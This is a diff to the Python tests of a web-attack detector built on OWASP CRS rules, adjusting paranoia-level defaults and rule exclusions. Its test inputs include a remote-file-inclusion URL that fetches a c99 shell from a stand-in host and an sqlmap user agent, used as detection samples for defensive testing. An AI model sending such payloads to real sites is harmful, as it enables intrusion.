@@ -154,13 +154,30 @@ def test_decodings() -> None:
 
 
 def test_paranoia_level_is_the_crs_one() -> None:
-    # CRS 931130 (off-domain reference in a URL argument) belongs to paranoia level 2.
+    # CRS 931130 (off-domain reference in a URL argument) belongs to paranoia level 2, the default.
     target = "/index.php?include=https://evil.example/c99.txt"
-    assert WebAttackDetector(Settings()).detect([event(line(target))]) == []
-    hits = WebAttackDetector(replace(Settings(), waf_paranoia_level=2)).detect([event(line(target))])
+    assert WebAttackDetector(replace(Settings(), waf_paranoia_level=1)).detect([event(line(target))]) == []
+    hits = WebAttackDetector(Settings()).detect([event(line(target))])
     assert any(h.entities["rule"]["id"] == "931130" for h in hits)
     with pytest.raises(ConfigError):
         WebAttackDetector(replace(Settings(), waf_paranoia_level=5))
+
+
+def test_scripting_clients_and_crawlers_are_not_attacks_unless_the_operator_says_so() -> None:
+    # CRS 913101 (scripting/generic HTTP clients) and 913102 (crawlers), paranoia level 2, are
+    # excluded by default (waf_excluded_rules); attack tools' user agents (913100) are not. So is
+    # 942380 (SQL words alone): a citizen's list sorted "order by date" is no attack.
+    curl = event(line("/api/actes?numero=12", agent="python-requests/2.31.0"))
+    assert WebAttackDetector(Settings()).detect([curl]) == []
+    strict = WebAttackDetector(replace(Settings(), waf_excluded_rules=()))
+    assert any(h.entities["rule"]["id"] == "913101" for h in strict.detect([curl]))
+    tool = event(line("/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)"))
+    assert any(h.entities["rule"]["id"] == "913100" for h in WebAttackDetector(Settings()).detect([tool]))
+    sorted_list = event(line("/visas/liste?tri=order+by+date"))
+    assert WebAttackDetector(Settings()).detect([sorted_list]) == []
+    assert any(h.entities["rule"]["id"] == "942380" for h in strict.detect([sorted_list]))
+    with pytest.raises(ConfigError, match="not rule ids"):
+        WebAttackDetector(replace(Settings(), waf_excluded_rules=("9131x",)))
 
 
 def test_without_the_crs_the_detector_says_so_and_still_detects_scanning(tmp_path: Path) -> None:
